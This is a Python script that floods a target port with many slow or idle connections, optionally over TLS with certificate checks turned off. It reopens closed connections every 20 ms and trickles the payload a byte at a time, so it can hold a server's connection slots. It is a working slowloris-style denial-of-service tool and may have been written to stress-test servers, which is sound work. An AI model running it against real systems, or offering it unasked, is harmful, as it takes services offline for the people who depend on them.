"""Floods a port with connections that show little, and keeps the flood up: what is closed is opened again.

    python3 flood.py ADDRESS PORT COUNT GAP AGAIN PAYLOAD_HEX [FROM [tls]]

Sends the payload on each connection: at once (GAP 0), or a byte each GAP seconds; with "tls" after a handshake. FROM is the address
that it comes from. Says "open" when COUNT connections were made, and goes on until its input ends, opening AGAIN of those that
were closed each 20 ms. Then says how many connections it made in all.
"""
import resource, select, selectors, socket, ssl, sys, time

address, port, count, gap = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
again, payload = int(sys.argv[5]), bytes.fromhex(sys.argv[6])
source = (sys.argv[7], 0) if sys.argv[7:8] > [""] else None
tls = None
if sys.argv[8:] == ["tls"]:
    # Whose certificate it is does not matter to a flood.
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
eyes = selectors.DefaultSelector()
sent = {}
shaking = set()
made = 0
WAITS = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


def connect():
    global made
    one = socket.create_connection((address, port), source_address=source)
    one.setblocking(False)
    made += 1
    if tls:
        one = tls.wrap_socket(one, do_handshake_on_connect=False)
        shaking.add(one)
    sent[one] = 0
    eyes.register(one, selectors.EVENT_READ)
    if tls:
        shake(one)
    elif gap == 0:
        push(one, len(payload))


def shake(one):
    try:
        one.do_handshake()
        shaking.discard(one)
        if gap == 0:
            push(one, len(payload))
    except WAITS:
        pass
    except OSError:
        drop(one)


def push(one, size):
    at = sent[one]
    if at >= len(payload) or one in shaking:
        return
    try:
        sent[one] += one.send(payload[at : at + size])
    except WAITS:
        pass
    except OSError:
        drop(one)


def drop(one):
    shaking.discard(one)
    if sent.pop(one, None) is None:
        return
    eyes.unregister(one)
    one.close()


def look(seconds):
    for key, _ in eyes.select(seconds):
        one = key.fileobj
        if one in shaking:
            shake(one)
            continue
        try:
            if one.recv(65536):
                continue
        except WAITS:
            continue
        except OSError:
            pass
        drop(one)


while made < count:
    connect()
    if tls:
        look(0)
while shaking:
    look(0.02)
print("open", flush=True)
last = opened = time.monotonic()
while not select.select([sys.stdin], [], [], 0)[0]:
    look(0.02)
    # As many again as were closed, some at a time: places are what is flooded, not the machine's processors.
    if time.monotonic() - opened >= 0.02:
        opened = time.monotonic()
        for _ in range(min(again, count - len(sent))):
            connect()
    if gap and time.monotonic() - last >= gap:
        last = time.monotonic()
        for one in list(sent):
            push(one, 1)
print(made, flush=True)
